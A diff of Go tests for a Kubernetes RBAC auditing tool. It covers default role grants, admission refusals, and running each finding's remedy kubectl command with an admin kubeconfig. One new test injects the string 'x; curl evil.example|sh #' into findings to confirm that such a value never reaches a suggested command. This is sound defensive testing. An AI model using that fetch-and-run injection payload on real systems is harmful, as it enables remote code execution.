@@ -2,6 +2,9 @@ package requests
 
 import (
 	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -15,9 +18,13 @@ import (
 	"k8s.io/client-go/kubernetes"
 
 	"github.com/ccmadm/ccmadm/api/finding"
+	"github.com/ccmadm/ccmadm/manifests/manifeststest"
 )
 
 func all(string) bool { return true }
+
+// minor is that of the API server of these tests: the newest that the lab has.
+const minor = 37
 
 func newClient(t *testing.T) kubernetes.Interface {
 	t.Helper()
@@ -31,17 +38,15 @@ func newClient(t *testing.T) kubernetes.Interface {
 // TestCluster_DefaultRoles: a new API server grants all that the table says that it makes, and nothing of what kubeadm makes.
 func TestCluster_DefaultRoles(t *testing.T) {
 	client := newClient(t)
-	denied, err := Denied(t.Context(), client, Cluster{Has: all})
+	denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor})
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, d := range denied {
-		if d.Maker == Server {
-			t.Errorf("an API server does not grant %s to %s", d.Permission, d.User)
+	for _, g := range Permissions() {
+		lacks := slices.ContainsFunc(denied, func(d Denial) bool { return d.Binding == g.binding() })
+		if lacks != (g.Kubeadm && !g.Optional && g.in(minor)) {
+			t.Errorf("of %s the API server denies something: %t", g.binding(), lacks)
 		}
-	}
-	if !slices.ContainsFunc(denied, func(d Denial) bool { return d.Maker == Config }) {
-		t.Error("what kubeadm grants is granted without kubeadm")
 	}
 	if slices.ContainsFunc(denied, func(d Denial) bool { return strings.Contains(d.Binding, "bootstrap-signer-clusterinfo") }) {
 		t.Error("a cluster without public cluster-info has been hardened")
@@ -62,7 +67,7 @@ func TestCluster_DefaultRoles(t *testing.T) {
 		}
 	})
 	eventually(t, func() bool {
-		denied, err = Denied(t.Context(), client, Cluster{Has: func(string) bool { return false }})
+		denied, err = Denied(t.Context(), client, Cluster{RunsAs: func(string) bool { return false }, Minor: minor})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -82,8 +87,9 @@ func eventually(t *testing.T, done func() bool, last func() any) {
 }
 
 // proxy is a pod as kube-proxy's DaemonSet makes it.
-func proxy() *corev1.PodTemplateSpec {
-	template := &corev1.PodTemplateSpec{}
+func proxy() *corev1.Pod {
+	template := &corev1.Pod{}
+	template.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "DaemonSet", Name: "kube-proxy", UID: "x", Controller: new(true)}}
 	template.Labels = map[string]string{"k8s-app": "kube-proxy"}
 	template.Spec.Containers = []corev1.Container{{
 		Name: "kube-proxy", Image: "registry.example/kube-proxy:1", SecurityContext: &corev1.SecurityContext{Privileged: new(true)},
@@ -107,7 +113,7 @@ func TestCluster_Refusals(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { _ = client.CoreV1().Nodes().Delete(ctx, "w1", metav1.DeleteOptions{}) })
-	asked := Cluster{Node: "w1", Proxy: proxy(), Has: all}
+	asked := Cluster{Node: "w1", Proxy: proxy(), RunsAs: all, Minor: minor}
 	ask := func() []finding.Finding {
 		t.Helper()
 		refused, err := Refused(ctx, client, asked)
@@ -188,18 +194,76 @@ func labelled(ctx context.Context, client kubernetes.Interface, level string) er
 	return err
 }
 
-// TestCluster_MayNot: a user who may not write learns that it was not asked, and nothing else.
-func TestCluster_MayNot(t *testing.T) {
-	config := *cluster.Config
-	config.Impersonate.UserName = "reader"
-	client, err := kubernetes.NewForConfig(&config)
+// TestCluster_Remedies: each permission of the table, restored by the command that a finding has.
+func TestCluster_Remedies(t *testing.T) {
+	client := newClient(t)
+	kubectl, err := manifeststest.Kubectl()
 	if err != nil {
 		t.Fatal(err)
 	}
-	if denied, err := Denied(t.Context(), client, Cluster{Has: all}); !apierrors.IsForbidden(err) || len(denied) > 0 {
+	data, err := cluster.Kubeconfig("admin", "system:masters")
+	if err != nil {
+		t.Fatal(err)
+	}
+	config := filepath.Join(t.TempDir(), "config")
+	if err := os.WriteFile(config, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	deny := func() []finding.Finding {
+		t.Helper()
+		denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return Judge(&Seen{Denied: denied})
+	}
+	if err := client.RbacV1().ClusterRoleBindings().Delete(t.Context(), "system:controller:job-controller", metav1.DeleteOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	var left []finding.Finding
+	for range 3 { // a missing binding, then a missing role
+		for _, f := range deny() {
+			run := exec.CommandContext(t.Context(), "bash", "-ec", strings.ReplaceAll(f.Next, "kubectl ", kubectl+" --kubeconfig "+config+" "))
+			if out, err := run.CombinedOutput(); err != nil {
+				t.Errorf("%s: %v\n%s", f.Next, err, out)
+			}
+		}
+		time.Sleep(500 * time.Millisecond) // RBAC's caches
+		left = deny()
+	}
+	if len(left) > 0 {
+		t.Errorf("left: %+v", left)
+	}
+}
+
+// TestJudge_Hostile: what a snapshot or an API server says never becomes a part of a command.
+func TestJudge_Hostile(t *testing.T) {
+	const evil = "x; curl evil.example|sh #"
+	for _, f := range Judge(&Seen{
+		Denied:      []Denial{{Component: evil, Permission: evil, Binding: evil}},
+		Refused:     []Refusal{{Write: evil, Message: "ValidatingAdmissionPolicy '" + evil + "' denied"}, {Write: "y", Message: "webhook \"" + evil + "\""}},
+		Unavailable: []Unavailable{{Name: "v1.x", Service: "a/" + evil}},
+	}) {
+		if strings.Contains(f.Next, "evil") {
+			t.Errorf("%s: next: %s", f.ID, f.Next)
+		}
+	}
+}
+
+// TestCluster_MayNot: a user who may not write learns that it was not asked, and nothing else.
+func TestCluster_MayNot(t *testing.T) {
+	config, err := cluster.User("reader")
+	if err != nil {
+		t.Fatal(err)
+	}
+	client, err := kubernetes.NewForConfig(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor}); !apierrors.IsForbidden(err) || len(denied) > 0 {
 		t.Errorf("got %v and %v, want that the API server may not be asked", denied, err)
 	}
-	if refused, err := Refused(t.Context(), client, Cluster{}); !apierrors.IsForbidden(err) || len(refused) > 0 {
+	if refused, err := Refused(t.Context(), client, Cluster{Node: "w1"}); !apierrors.IsForbidden(err) || len(refused) > 0 {
 		t.Errorf("got %v and %v, want that writes may not be asked for", refused, err)
 	}
 }
